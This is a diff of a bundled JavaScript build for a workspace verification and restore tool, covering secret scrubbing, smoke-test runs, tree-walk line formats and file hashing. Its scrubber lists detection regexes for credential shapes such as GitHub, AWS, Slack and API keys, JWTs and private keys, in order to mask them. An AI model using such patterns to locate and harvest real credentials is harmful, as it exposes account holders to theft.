+    if (r.signal)
+        return `killed by ${r.signal} after ${secs} s`;
+    return `exit ${r.exitCode ?? '?'} in ${secs} s`;
+}
+function describeEscaped(escaped) {
+    if (escaped.length === 0)
+        return '';
+    const names = [...new Set(escaped.map(p => p.name.replace(/[^\w.+-]/g, '?')))].slice(0, 5);
+    return `; stopped ${escaped.length} process(es) that left its process group (${names.join(', ')})`;
+}
+
+;// CONCATENATED MODULE: ./src/core/run/scrub.ts
+/**
+ * Scrubbing secrets from recipe output before it is printed or kept: the exact values of the
+ * variables an entry marks secret, and token shapes that are secrets wherever they appear.
+ */
+/**
+ * Token shapes, each with the variable a redacted copy names it by (sync/redact.ts). A private key
+ * block comes first, so its base64 lines are never matched piecemeal by a shorter shape.
+ */
+const scrub_NAMED_TOKEN_SHAPES = [
+    {
+        re: /-----BEGIN [A-Z ]*PRIVATE KEY-----[\s\S]*?-----END [A-Z ]*PRIVATE KEY-----/g,
+        variable: 'PRIVATE_KEY_PEM'
+    },
+    { re: /\bgh[pousr]_[A-Za-z0-9]{36,255}\b/g, variable: 'GITHUB_TOKEN' },
+    { re: /\bgithub_pat_[A-Za-z0-9_]{22,255}\b/g, variable: 'GITHUB_TOKEN' },
+    { re: /\bglpat-[A-Za-z0-9_-]{20,}\b/g, variable: 'GITLAB_TOKEN' },
+    { re: /\bxox[abposr]-[A-Za-z0-9-]{10,}\b/g, variable: 'SLACK_TOKEN' },
+    { re: /\b(?:AKIA|ASIA)[A-Z0-9]{16}\b/g, variable: 'AWS_ACCESS_KEY_ID' },
+    // OpenAI / Anthropic style keys
+    { re: /\bsk-(?:proj-|ant-)?[A-Za-z0-9_-]{20,}\b/g, variable: 'OPENAI_API_KEY' },
+    { re: /\bhf_[A-Za-z0-9]{30,}\b/g, variable: 'HF_TOKEN' },
+    { re: /\bnpm_[A-Za-z0-9]{36}\b/g, variable: 'NPM_TOKEN' },
+    { re: /\bAIza[0-9A-Za-z_-]{35}\b/g, variable: 'GOOGLE_API_KEY' },
+    { re: /\beyJ[A-Za-z0-9_-]{8,}\.eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}\b/g, variable: 'JWT' },
+    // A password in a URL (scheme://user:PASSWORD@host).
+    { re: /(?<=[a-z][a-z0-9+.-]*:\/\/[^:/@\s]+:)[^@\s]+(?=@)/gi, variable: 'URL_PASSWORD' }
+];
+const TOKEN_SHAPES = scrub_NAMED_TOKEN_SHAPES.map(s => s.re);
+const MASK = '***';
+/** True when `text` holds one of the token shapes (escrow refuses such files; see secrets.ts). */
+function scrub_hasTokenShape(text) {
+    // search() ignores the patterns' global state, so the shared regexes stay reusable.
+    return TOKEN_SHAPES.some(re => text.search(re) >= 0);
+}
+/** Shorter pieces are not masked: masking `a` or `ok` would hide every word. */
+const MIN_SECRET = 4;
+/**
+ * What to mask for these secret values: each whole value and, since output is read and masked
+ * line by line (recipe output here, the log on the runner), every line of a multi-line value (a
+ * PEM or OpenSSH key), trimmed. Longest first, so no piece is masked by a part of it.
+ */
+function secretPieces(secretValues) {
+    const pieces = secretValues.flatMap(v => [v, v.trim(), ...v.split(/\r?\n|\r/).map(l => l.trim())]);
+    return [...new Set(pieces.filter(v => v.length >= MIN_SECRET))].sort((a, b) => b.length - a.length);
+}
+/** A scrubber for these secret values (pieces shorter than 4 characters are not masked). */
+function makeScrubber(secretValues) {
+    const values = secretPieces(secretValues);
+    return text => {
+        let out = text;
+        for (const v of values)
+            out = out.split(v).join(MASK);
+        for (const re of TOKEN_SHAPES)
+            out = out.replace(re, MASK);
+        return out;
+    };
+}
+/** `value` with every string in it scrubbed (a report before it is written or printed). */
+function scrubDeep(value, scrub) {
+    if (typeof value === 'string')
+        return scrub(value);
+    if (Array.isArray(value))
+        return value.map(v => scrubDeep(v, scrub));
+    if (value !== null && typeof value === 'object')
+        return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, scrubDeep(v, scrub)]));
+    return value;
+}
+
+;// CONCATENATED MODULE: ./src/core/smoke.ts
+
+
+
+const SMOKE_TIMEOUT_S = 60;
+async function runSmokes(m, findings, gate, callerEnv, abort) {
+    if (!gate.allowed)
+        return { findings, smoke: { allowed: false, reason: gate.reason, results: [] } };
+    const entries = new Map(m.body.entries.map(e => [e.id, e]));
+    const results = [];
+    const out = [];
+    for (const f of findings) {
+        const e = entries.get(f.id);
+        if (!e)
+            throw new InternalError(`finding for unknown entry ${f.id}`);
+        if (f.status !== 'OK' || !e.smoke || abort?.aborted) {
+            out.push(f);
+            continue;
+        }
+        const secrets = (e.secret_env ?? [])
+            .map(n => callerEnv[n])
+            .filter((v) => v !== undefined);
+        const r = await runRecipe({
+            id: e.id,
+            command: e.smoke,
+            shell: m.body.shell ?? ['bash', '-c'],
+            cwd: m.workspace,
+            env: minimalEnv(callerEnv, [...(e.env ?? []), ...(e.secret_env ?? [])]),
+            timeoutMs: SMOKE_TIMEOUT_S * 1000
+        }, { abort, scrub: makeScrubber(secrets) });
+        const detail = `smoke ${describeResult(r, SMOKE_TIMEOUT_S * 1000)}`;
+        const passed = r.exitCode === 0 && !r.timedOut && !r.interrupted;
+        results.push({
+            id: e.id,
+            outcome: passed ? 'passed' : 'failed',
+            detail,
+            ...(passed ? {} : { output: r.output.slice(-4096) })
+        });
+        out.push(passed ? f : { ...f, status: 'SMOKEFAIL', reason: 'smoke', detail });
+    }
+    return { findings: out, smoke: { allowed: true, reason: gate.reason, results } };
 }
 
 ;// CONCATENATED MODULE: ./src/core/types.ts
@@ -36803,14 +37758,14 @@ const TIER_NAMES = {
     4: 'build outputs'
 };
 /** An entry's restore sources as a list, whichever form the manifest used. */
-function restoreSources(e) {
+function types_restoreSources(e) {
     if (e.restore === undefined)
         return [];
     return typeof e.restore === 'string' ? [e.restore] : e.restore;
 }
 /** The shell recipes among an entry's restore sources, in order. */
 function recipesOf(e) {
-    return restoreSources(e).filter((s) => typeof s === 'string');
+    return types_restoreSources(e).filter((s) => typeof s === 'string');
 }
 const STATUSES = [
     'OK',
@@ -36852,7 +37807,7 @@ function planSteps(plan) {
 /** The sources a restore of `e` tries, in order (escrow first, then the manifest's order). */
 function sourcesOf(e) {
     const out = e.kind === 'file' && e.escrow ? ['escrow'] : [];
-    for (const src of restoreSources(e))
+    for (const src of types_restoreSources(e))
         out.push(typeof src === 'string' ? 'recipe' : 'cache');
     return out;
 }
@@ -36901,7 +37856,7 @@ function planRepair(entries, findings) {
 
 
 /** Directory names that runners, caches and sandboxes routinely drop or never keep. */
-const VOLATILE_DIRS = new Set([
+const diagnose_VOLATILE_DIRS = new Set([
     '.cache',
     '.next',
     '.npm',
@@ -36928,8 +37883,8 @@ const VOLATILE_DIRS = new Set([
 function isDamaged(f) {
     return f.status !== 'OK';
 }
-function underVolatileDir(p) {
-    return p.split('/').some(seg => VOLATILE_DIRS.has(seg));
+function diagnose_underVolatileDir(p) {
+    return p.split('/').some(seg => diagnose_VOLATILE_DIRS.has(seg));
 }
 function damageOf(f) {
     switch (f.status) {
@@ -37044,7 +37999,7 @@ function wipeSignature(findings) {
         return 'injection';
     if (all(x => x.f.tier === 0))
         return 'credential-loss';
-    if (all(x => lost(x.d) && underVolatileDir(danglingTarget(x.f) ?? x.f.path)))
+    if (all(x => lost(x.d) && diagnose_underVolatileDir(danglingTarget(x.f) ?? x.f.path)))
         return 'exclusion-sweep';
     if (all(x => x.f.kind === 'blob' && lost(x.d)))
         return 'size-cap-eviction';
@@ -37152,7 +38107,7 @@ function noWayBack(f) {
 /** Cause and fix for one damaged entry. */
 function adviceFor(f, command = 'swr restore', ways = 'unknown') {
     const restore = ways === 'none' ? noWayBack(f) : `${command} --only ${f.id}`;
-    const volatile = underVolatileDir(f.path)
+    const volatile = diagnose_underVolatileDir(f.path)
         ? ` ${f.path} is under a directory that caches and snapshots often exclude.`
         : '';
     const chmod = (mode) => ways === 'none'
@@ -37542,178 +38497,6 @@ function isTreeFiles(v) {
         Object.values(s.files).every(x => typeof x === 'string'));
 }
 
-;// CONCATENATED MODULE: ./src/core/report/escape.ts
-/**
- * Rendering an untrusted string (a file name, link target, manifest id, path or note, recipe
- * text) as part of ONE line of output. Whoever wrote the workspace or the manifest chose these
- * bytes: printed raw, a newline starts a line of their choosing (a workflow command in the
- * Action's log, a fake `OK` line in a terminal), ESC or CSI rewrites the screen, and bidi controls
- * reorder what the reader sees. Every printer passes such strings through `escapeText`.
- */
-/** Bidi controls: they make text display in another order than it is stored. */
-const BIDI = new Set([
-    0x061c, 0x200e, 0x200f, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069
-]);
-const NAMED = { 0x09: '\\t', 0x0a: '\\n', 0x0d: '\\r' };
-/** The default bound for a manifest string quoted in an error line. */
-const QUOTE_MAX = 200;
-/** True for C0, DEL, C1 and bidi controls: the characters no single line may carry raw. */
-function escape_isControl(code) {
-    return code <= 0x1f || (code >= 0x7f && code <= 0x9f) || BIDI.has(code);
-}
-function hex(code, width) {
-    return code.toString(16).padStart(width, '0');
-}
-function visible(code) {
-    if (NAMED[code])
-        return NAMED[code];
-    if (code <= 0xff && escape_isControl(code))
-        return `\\x${hex(code, 2)}`;
-    if (BIDI.has(code))
-        return `\\u${hex(code, 4)}`;
-    return undefined;
-}
-/**
- * A byte of a file name that is not UTF-8 travels as the lone surrogate U+DC00+byte (see
- * verify/byte-names.mjs); shown as `\xNN`, like the name's other unprintable bytes. Half of a real
- * surrogate pair is left alone.
- */
-function byteMarker(s, i) {
-    const code = s.charCodeAt(i);
-    if (code < 0xdc80 || code > 0xdcff)
-        return undefined;
-    const prev = i > 0 ? s.charCodeAt(i - 1) : 0;
-    if (prev >= 0xd800 && prev <= 0xdbff)
-        return undefined;
-    return `\\x${hex(code - 0xdc00, 2)}`;
-}
-/**
- * `s` with every control, DEL, C1 and bidi control shown as a visible escape (`\n`, `\x1b`,
- * `\u202e`), so the result never breaks or rewrites a line. With `max`, a longer result is cut and
- * ends with `…[+N chars]`. Idempotent: escaping twice changes nothing, so a line
- * built from escaped parts may be escaped again by the printer.
- */
-function escape_escapeText(s, opts = {}) {
-    const max = opts.max ?? Number.POSITIVE_INFINITY;
-    let out = '';
-    let i = 0;
-    for (; i < s.length; i++) {
-        const code = s.charCodeAt(i);
-        const piece = visible(code) ?? byteMarker(s, i) ?? s.charAt(i);
-        if (out.length + piece.length > max)
-            break;
-        out += piece;
-    }
-    if (i >= s.length)
-        return out;
-    // Never leave half a surrogate pair at the cut.
-    const last = out.charCodeAt(out.length - 1);
-    if (last >= 0xd800 && last <= 0xdbff) {
-        out = out.slice(0, -1);
-        i--;
-    }
-    return `${out}…[+${s.length - i} chars]`;
-}
-/** A manifest string quoted in a message: escaped, bounded, in double quotes. */
-function quoted(s, max = QUOTE_MAX) {
-    return `"${escape_escapeText(s, { max })}"`;
-}
-/**
- * `escapeText`, then the characters Markdown and HTML act on backslash-escaped (CommonMark lets
- * any ASCII punctuation be): in a job summary an untrusted string stays literal text, never a
- * table cell, link, image, emphasis, code span or HTML.
- */
-function escapeMarkdown(s, opts = {}) {
-    return escape_escapeText(s, opts).replace(/[\\`*_[\]<>&|~!#]/g, '\\$&');
-}
-/**
- * An untrusted string as a Markdown code span: nothing inside is interpreted, so only a backtick
- * (which would close the span, shown as `\x60`) and `|` (which GitHub's tables split cells on even
- * there, written `\|`) need care.
- */
-function markdownCode(s, opts = {}) {
-    return '`' + escape_escapeText(s, opts).replace(/`/g, '\\x60').replace(/\|/g, '\\|') + '`';
-}
-
-;// CONCATENATED MODULE: ./src/core/manifest/paths.ts
-/**
- * Path rules for manifests: every entry path is workspace-relative POSIX, normalised, NFC, and
- * cannot leave the workspace. One spelling per path, so two entries can't name one file twice.
- */
-
-
-const ENTRY_ID = /^[A-Za-z0-9._-]{1,128}$/;
-const MAX_PATH = 4096;
-/** Why `p` is not an acceptable manifest path, or undefined when it is. "." means the workspace. */
-function pathProblem(p) {
-    if (p === '.')
-        return undefined;
-    if (p.length === 0)
-        return 'is empty';
-    if (p.length > MAX_PATH)
-        return `is longer than ${MAX_PATH} characters`;
-    if (p.includes('\0'))
-        return 'contains a NUL byte';
-    if (!p.isWellFormed() || p.normalize('NFC') !== p)
-        return 'is not NFC-normalised Unicode';
-    if (p.startsWith('/'))
-        return 'is absolute; manifest paths are relative to the workspace';
-    for (const seg of p.split('/')) {
-        if (seg === '')
-            return 'has an empty segment (double or trailing slash)';
-        if (seg === '..')
-            return 'escapes the workspace with ".."';
-        if (seg === '.')
-            return 'has a "." segment; write it without';
-    }
-    return undefined;
-}
-/**
- * Turn what a user typed (relative to `cwd`, or absolute) into the manifest spelling relative to
- * `workspace`. Returns an error string when the path is outside the workspace.
- */
-function toManifestPath(input, cwd, workspace) {
-    const abs = path.resolve(cwd, input.normalize('NFC'));
-    const rel = path.relative(workspace, abs);
-    if (rel === '')
-        return { ok: true, path: '.' };
-    if (rel === '..' || rel.startsWith('../') || path.isAbsolute(rel)) {
-        return { ok: false, why: `${input} is outside the workspace ${workspace}` };
-    }
-    const spelled = rel.split(path.sep).join('/');
-    const problem = pathProblem(spelled) ?? controlProblem(spelled);
-    return problem ? { ok: false, why: `${input} ${problem}` } : { ok: true, path: spelled };
-}
-/**
- * A manifest path is printed on lines of output, so the loader refuses one holding a control or
- * bidi character; a path typed to `add` is refused the same way before anything is written.
- */
-function controlProblem(p) {
-    for (let i = 0; i < p.length; i++) {
-        const c = p.charCodeAt(i);
-        if (isControl(c))
-            return `contains a control character (U+${c.toString(16).toUpperCase().padStart(4, '0')}): rename it to track it`;
-    }
-    return undefined;
-}
-/** True when `abs` is `root` or below it (both already absolute and normalised). */
-function paths_isInside(root, abs) {
-    if (abs === root)
-        return true;
-    const base = root.endsWith('/') ? root : `${root}/`;
-    return abs.startsWith(base);
-}
-/** Absolute location of a validated manifest path. */
-function paths_resolveEntryPath(workspace, rel) {
-    return rel === '.' ? workspace : external_node_path_default().join(workspace, rel);
-}
-/** Why a sentinel or other tree-relative path is unacceptable (same rules, "." refused). */
-function innerPathProblem(p) {
-    if (p === '.')
-        return 'names the tree itself';
-    return pathProblem(p);
-}
-
 ;// CONCATENATED MODULE: ./src/core/verify/locate-entry.ts
 /**
  * Finding an entry on disk without being led out of the workspace. The parent chain is resolved
@@ -37725,7 +38508,7 @@ function innerPathProblem(p) {
 
 
 /** Locate `rel` below `root` (an absolute, real directory path). */
-function locateInside(root, rel) {
+function locate_entry_locateInside(root, rel) {
     const abs = rel === '.' ? root : external_node_path_default().join(root, rel);
     if (rel !== '.') {
         const parent = external_node_path_default().dirname(abs);
@@ -37772,7 +38555,7 @@ function identity(st) {
 ;// CONCATENATED MODULE: ./src/core/verify/mode.ts
 /** Permission modes as manifests spell them ("0755") and the exec-bit rule behind STRIPPED. */
 /** "0755" from permission bits. */
-function octal(mode) {
+function mode_octal(mode) {
     return (mode & 0o7777).toString(8).padStart(4, '0');
 }
 function parseMode(text) {
@@ -37825,7 +38608,7 @@ function finding(e, status, reason, detail, recorded, found, cached = false) {
  * a parent leading outside the workspace) or the TYPE finding every verifier starts with.
  */
 function locateAs(e, ctx, recorded, noun, is, want) {
-    const loc = locateInside(ctx.workspace, e.path);
+    const loc = locate_entry_locateInside(ctx.workspace, e.path);
     if (loc.state !== 'present') {
         const reason = loc.state === 'escapes' ? 'escapes' : 'absent';
         return finding(e, 'MISSING', reason, `${noun} ${loc.why}`, recorded, { type: 'none' });
@@ -37929,7 +38712,7 @@ function bytesOf(s) {
  * @param {string} s
  * @returns {string | Buffer}
  */
-function fsPath(s) {
+function byte_names_fsPath(s) {
   return s.isWellFormed() ? s : bytesOf(s)
 }
 
@@ -37940,7 +38723,7 @@ function fsPath(s) {
  * @returns {string[]}
  */
 function readNames(dir) {
-  const p = fsPath(dir)
+  const p = byte_names_fsPath(dir)
   const names = external_node_fs_.readdirSync(p)
   if (!names.some(n => n.includes(REPLACEMENT))) return names
   return external_node_fs_.readdirSync(p, { encoding: 'buffer' }).map(nameOf)
@@ -37952,7 +38735,7 @@ function readNames(dir) {
  * @returns {{ name: string, dir: boolean }[]}
  */
 function readEntries(dir) {
-  const p = fsPath(dir)
+  const p = byte_names_fsPath(dir)
   const ents = external_node_fs_.readdirSync(p, { withFileTypes: true })
   if (!ents.some(d => d.name.includes(REPLACEMENT)))
     return ents.map(d => ({ name: d.name, dir: d.isDirectory() }))
@@ -37966,7 +38749,7 @@ function readEntries(dir) {
  * @returns {string}
  */
 function readTarget(abs) {
-  return nameOf(external_node_fs_.readlinkSync(fsPath(abs), { encoding: 'buffer' }))
+  return nameOf(external_node_fs_.readlinkSync(byte_names_fsPath(abs), { encoding: 'buffer' }))
 }
 
 /**
@@ -37977,7 +38760,7 @@ function readTarget(abs) {
  * @param {string} s
  * @returns {string}
  */
-function shownName(s) {
+function byte_names_shownName(s) {
   return s.replace(
     // eslint-disable-next-line no-control-regex
     /[\\\u0000-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\udc80-\udcff]/gu,
@@ -37994,12 +38777,282 @@ function shownName(s) {
   )
 }
 
+;// CONCATENATED MODULE: ./src/core/verify/walk-format.mjs
+// The tree walk's definition, in one place: the order entries are visited in, the type letter and
+// mode text each gets, and the lines the recorded digests are computed over. Every walker (the
+// inline walk in walk.ts, the walk workers in hash-kernel.mjs, GNU find through native-walk.ts
+// and its re-sort in find-lines.ts) takes its order and its lines from here, so a change here
+// changes all of them at once. Any change to a line's spelling changes every recorded digest:
+// recorded manifests then fail their metadata and content checks. Plain JavaScript so the worker
+// kernel can import it without a build (as byte-names.mjs).
+//
+// Each entry below the tree's root gives one line to each digest:
+//   meta:    relpath NUL type NUL size NUL mode LF        (size 0 unless a regular file)
+//   content: the meta line's fields, NUL sha256 (files) or link target (links), LF
+//   stamp:   relpath NUL type NUL dev:inode:mtime:ctime LF (the incremental-cache key)
+
+
+
+/**
+ * Type letters: a regular file, a directory, a symlink, anything else. The first three are GNU
+ * find's own -type letters, so its -type tests name them as they are.
+ */
+const TYPE = Object.freeze({ file: 'f', dir: 'd', link: 'l', other: 'o' })
+
+/** The letters find can test for, in the order tested (anything else is TYPE.other). */
+const FIND_TYPES = [TYPE.file, TYPE.dir, TYPE.link]
+
+/**
+ * The type letter of an lstat result (Stats or BigIntStats).
+ * @param {import('node:fs').Stats | import('node:fs').BigIntStats} st
+ */
+function typeOf(st) {
+  if (st.isFile()) return TYPE.file
+  if (st.isDirectory()) return TYPE.dir
+  if (st.isSymbolicLink()) return TYPE.link
+  return TYPE.other
+}
+
+/**
+ * Visit order among siblings: JavaScript string order (UTF-16 code units, names as byte-names.mjs
+ * spells them). `sortNames` is the same order through the default sort, which is the fastest.
+ * @param {string} a
+ * @param {string} b
+ */
+function compareNames(a, b) {
+  return a < b ? -1 : a > b ? 1 : 0
+}
+
+/**
+ * Sort sibling names into visit order, in place.
+ * @param {string[]} names
+ */
+function sortNames(names) {
+  return names.sort()
+}
+
+const MODE_TEXT = new Map()
+
+/**
+ * Permission bits as four octal digits ("0755"); a handful of distinct modes, so cached.
+ * @param {number} mode
+ */
+function modeText(mode) {
+  let t = MODE_TEXT.get(mode)
+  if (t === undefined) {
+    t = (mode & 0o7777).toString(8).padStart(4, '0')
+    MODE_TEXT.set(mode, t)
+  }
+  return t
+}
+
+/**
+ * A time in stamp lines, as GNU find's %T@ prints it (seconds, a dot, nine digits of nanoseconds
+ * and a zero), so find's lines need no conversion. Another spelling (a time before 1970) only
+ * costs a cache miss.
+ * @param {bigint} ns
+ */
+function stampTime(ns) {
+  if (ns < 0n) return `-${-ns}`
+  return `${ns / 1000000000n}.${(ns % 1000000000n).toString().padStart(9, '0')}0`
+}
+
+/** What separates a line's fields and ends a line, in the lines and in find's -printf escapes. */
+const SEP = '\0'
+const END = '\n'
+// \000, never \0: GNU find reads up to three octal digits, so "\0" + "0" would be one NUL.
+const FIND_SEP = '\\000'
+const FIND_END = '\\n'
+
+/** The size field: only a regular file's size is part of the line. */
+const sized = (type, size) => (type === TYPE.file ? size : 0)
+
+// The two layouts below are each line's one definition. The Node walkers fill them with values,
+// find with its -printf directives for the same values: path %p, size %s, mode %04m (modeText),
+// device %D, inode %i, times %T@ and %C@ (stampTime).
+const metaLayout = (path, type, size, mode, sep) => `${path}${sep}${type}${sep}${size}${sep}${mode}`
+const stampLayout = (path, type, dev, ino, mtime, ctime, sep, end) =>
+  `${path}${sep}${type}${sep}${dev}:${ino}:${mtime}:${ctime}${end}`
+
+/**
+ * The meta line's fields without its end: the head of the content line too.
+ * @param {string} rel
+ * @param {string} type
+ * @param {number | bigint} size
+ * @param {number} mode
+ */
+function metaFields(rel, type, size, mode) {
+  return metaLayout(rel, type, sized(type, size), modeText(mode), SEP)
+}
+
+/**
+ * One meta line.
+ * @param {string} rel
+ * @param {string} type
+ * @param {number | bigint} size
+ * @param {number} mode
+ */
+function metaLine(rel, type, size, mode) {
+  return metaFields(rel, type, size, mode) + END
+}
+
+/**
+ * The meta line of fields metaFields gave.
+ * @param {string} fields
+ */
+function metaLineOf(fields) {
+  return fields + END
+}
+
+/**
+ * One content line: the meta fields and the file's sha256 or the link's target ('' otherwise).
+ * @param {string} fields metaFields of the entry
+ * @param {string} extra
+ */
+function contentLine(fields, extra) {
+  return `${fields}${SEP}${extra}${END}`
+}
+
+/**
+ * One stamp line.
+ * @param {string} rel
+ * @param {string} type
+ * @param {bigint} dev
+ * @param {bigint} ino
+ * @param {bigint} mtimeNs
+ * @param {bigint} ctimeNs
+ */
+function stampLine(rel, type, dev, ino, mtimeNs, ctimeNs) {
+  return stampLayout(rel, type, dev, ino, stampTime(mtimeNs), stampTime(ctimeNs), SEP, END)
+}
+
+/**
+ * find's -printf format for one kind of line and one type letter: the same layout, with find's
+ * directives for the values.
+ * @param {'meta' | 'stamp'} kind
+ * @param {string} type
+ */
+function findFormat(kind, type) {
+  return kind === 'meta'
+    ? metaLayout('%p', type, sized(type, '%s'), '%04m', FIND_SEP) + FIND_END
+    : stampLayout('%p', type, '%D', '%i', '%T@', '%C@', FIND_SEP, FIND_END)
+}
+
+/**
+ * find's expression printing one line per entry: a -type test and -printf for each letter find
+ * can test, then TYPE.other for the rest.
+ * @param {'meta' | 'stamp'} kind
+ * @returns {string[]}
+ */
+function findPrintArgs(kind) {
+  return [
+    ...FIND_TYPES.flatMap((t, i) => [
+      ...(i > 0 ? ['-o'] : []),
+      '-type',
+      t,
+      '-printf',
+      findFormat(kind, t)
+    ]),
+    '-o',
+    '-printf',
+    findFormat(kind, TYPE.other)
+  ]
+}
+
+/** The bytes find's lines are split on, and the type letter that opens a subtree. */
+const LINE_END = END.charCodeAt(0)
+const FIELD_SEP = SEP.charCodeAt(0)
+const DIR_BYTE = TYPE.dir.charCodeAt(0)
+
+/**
+ * An entry's identity in the per-file cache: dev:ino:mtime_ns:ctime_ns (raw nanoseconds).
+ * @param {bigint} dev
+ * @param {bigint} ino
+ * @param {bigint} mtimeNs
+ * @param {bigint} ctimeNs
+ */
+function identText(dev, ino, mtimeNs, ctimeNs) {
+  return `${dev}:${ino}:${mtimeNs}:${ctimeNs}`
+}
+
+/**
+ * A file's value in the per-file cache: its identity, size and sha256.
+ * @param {string} ident
+ * @param {number} size
+ * @param {string} sha256
+ */
+function cacheText(ident, size, sha256) {
+  return `${ident} ${size} ${sha256}`
+}
+
+/**
+ * The entries of one directory in visit order, each lstat'ed (never followed): `each` gets its
+ * absolute path, its path relative to the tree, its type letter and its BigIntStats. Names in
+ * `rules.skip` are left out before their lstat, absolute paths in `rules.exclude` too, and
+ * entries `rules.ignored` matches after it. Throws when the directory cannot be listed.
+ * @param {string} absDir
+ * @param {string} relDir '' for the tree's root
+ * @param {WalkRules} rules
+ * @param {EachEntry} each
+ */
+function eachChild(absDir, relDir, rules, each) {
+  inOrder(absDir, relDir, sortNames(readNames(absDir)), rules, each)
+}
+
+function inOrder(absDir, relDir, names, rules, each) {
+  const { skip, exclude, ignored } = rules
+  for (const name of names) {
+    if (skip?.has(name)) continue
+    const abs = `${absDir}/${name}`
+    if (exclude.has(abs)) continue
+    const st = external_node_fs_.lstatSync(byte_names_fsPath(abs), { bigint: true, throwIfNoEntry: false })
+    if (!st) continue // vanished between readdir and lstat: the same as not there
+    const rel = relDir ? `${relDir}/${name}` : name
+    if (ignored?.(rel, name, st.isDirectory())) continue
+    each(abs, rel, typeOf(st), st)
+  }
+}
+
+/**
+ * The walk: depth first, each directory's children in visit order, each followed by its own
+ * subtree, so no global sort is needed. Directories that cannot be listed are added to
+ * `unreadable` with their error code (the root as '.').
+ * @param {string} rootAbs
+ * @param {string} rootRel
+ * @param {WalkRules} rules
+ * @param {EachEntry} each
+ * @param {{ rel: string, code: string }[]} unreadable
+ */
+function visitTree(rootAbs, rootRel, rules, each, unreadable) {
+  const visit = (absDir, relDir) => {
+    let names
+    try {
+      names = sortNames(readNames(absDir))
+    } catch (err) {
+      unreadable.push({ rel: relDir || '.', code: err?.code ?? 'EIO' })
+      return
+    }
+    inOrder(absDir, relDir, names, rules, (abs, rel, type, st) => {
+      each(abs, rel, type, st)
+      if (type === TYPE.dir) visit(abs, rel)
+    })
+  }
+  visit(rootAbs, rootRel)
+}
+
+/**
+ * @typedef {{ skip?: ReadonlySet<string>, exclude: ReadonlySet<string>,
+ *   ignored?: (rel: string, name: string, isDir: boolean) => boolean }} WalkRules
+ * @typedef {(abs: string, rel: string, type: string, st: import('node:fs').BigIntStats) => void} EachEntry
+ */
+
 ;// CONCATENATED MODULE: ./src/core/verify/hash-kernel.mjs
 // The hashing kernel, shared by the main thread and the hash workers. Plain JavaScript so the same
 // file runs as a worker_threads script from src/ (tests) and from dist/ (the bundles) without a
 // build step. Synchronous reads into one reused buffer measured 3-6x faster than fs.promises
 // here; files are opened with O_NOFOLLOW (a symlink swapped in for a file is an error, never a
 // read elsewhere) and O_NONBLOCK (a FIFO planted in a tree cannot hang the check).
+
 
 
 
@@ -38036,7 +39089,7 @@ function readFully(fd, buf, length, position) {
  * @returns {{ sha256: string, size: number, mode: number }}
  */
 function hashFile(abs) {
-  const fd = external_node_fs_.openSync(fsPath(abs), READ_FLAGS)
+  const fd = external_node_fs_.openSync(byte_names_fsPath(abs), READ_FLAGS)
   try {
     const st = external_node_fs_.fstatSync(fd)
     if (!st.isFile()) throw notAFile(abs)
@@ -38068,7 +39121,7 @@ const oneShot = typeof external_node_crypto_.hash === 'function' ? buf => extern
  * @returns {string}
  */
 function hashWalked(abs, size) {
-  const fd = external_node_fs_.openSync(fsPath(abs), READ_FLAGS)
+  const fd = external_node_fs_.openSync(byte_names_fsPath(abs), READ_FLAGS)
   try {
     const buf = buffer()
     if (size < buf.length) {
@@ -38102,8 +39155,8 @@ function hashWalked(abs, size) {
  * @param {string} abs
  * @returns {{ sha256: string, size: number, mode: number }}
  */
-function hashHeadTail(abs) {
-  const fd = external_node_fs_.openSync(fsPath(abs), READ_FLAGS)
+function hash_kernel_hashHeadTail(abs) {
+  const fd = external_node_fs_.openSync(byte_names_fsPath(abs), READ_FLAGS)
   try {
     const st = external_node_fs_.fstatSync(fd)
     if (!st.isFile()) throw notAFile(abs)
@@ -38122,19 +39175,9 @@ function hashHeadTail(abs) {
  * @param {string} abs
  * @param {'full' | 'headtail'} how
  */
-/**
- * A time in cache stamps, as GNU find's %T@ prints it (seconds, a dot, nine digits of nanoseconds
- * and a zero): the native walker (native-walk.ts) then passes find's lines through unchanged.
- * Another spelling (a time before 1970) only costs a cache miss.
- */
-function stampTime(ns) {
-  if (ns < 0n) return `-${-ns}`
-  return `${ns / 1000000000n}.${(ns % 1000000000n).toString().padStart(9, '0')}0`
-}
-
-function runJob(abs, how) {
+function hash_kernel_runJob(abs, how) {
   try {
-    return how === 'headtail' ? hashHeadTail(abs) : hashFile(abs)
+    return how === 'headtail' ? hash_kernel_hashHeadTail(abs) : hashFile(abs)
   } catch (err) {
     return { error: typeof err?.code === 'string' ? err.code : 'EIO' }
   }
@@ -38149,7 +39192,7 @@ if (!external_node_worker_threads_.isMainThread && external_node_worker_threads_
   for (;;) {
     const i = Atomics.add(next, 0, 1)
     if (i >= paths.length) break
-    batch.push([i, runJob(paths[i], hows[i])])
+    batch.push([i, hash_kernel_runJob(paths[i], hows[i])])
     if (batch.length >= 512) {
       external_node_worker_threads_.parentPort.postMessage(batch)
       batch = []
@@ -38157,37 +39200,6 @@ if (!external_node_worker_threads_.isMainThread && external_node_worker_threads_
   }
   external_node_worker_threads_.parentPort.postMessage(batch)
   external_node_worker_threads_.parentPort.postMessage('done')
-}
-
-/**
- * Walking subtrees in a worker, so both cores lstat (and hash) at once. `eachEntry` receives every
- * entry below the root in walk order (children sorted, symlinks never followed).
- */
-function visitSubtree(rootAbs, rootRel, rules, eachEntry, unreadable) {
-  // Plain names only: glob rules keep the walk in the main thread (ignore-rules.ts).
-  const ignored = name => rules.names.has(name)
-  const visit = (absDir, relDir) => {
-    let names
-    try {
-      names = readNames(absDir)
-    } catch (err) {
-      unreadable.push({ rel: relDir, code: err?.code ?? 'EIO' })
-      return
-    }
-    names.sort()
-    for (const name of names) {
-      const rel = `${relDir}/${name}`
-      if (ignored(name)) continue
-      const abs = `${absDir}/${name}`
-      if (rules.exclude.has(abs)) continue
-      const st = external_node_fs_.lstatSync(fsPath(abs), { bigint: true, throwIfNoEntry: false })
-      if (!st) continue
-      const type = st.isFile() ? 'f' : st.isDirectory() ? 'd' : st.isSymbolicLink() ? 'l' : 'o'
-      eachEntry(abs, rel, type, st)
-      if (type === 'd') visit(abs, rel)
-    }
-  }
-  visit(rootAbs, rootRel)
 }
 
 /** hashWalked, or undefined when the file cannot be read (it is then reported unreadable). */
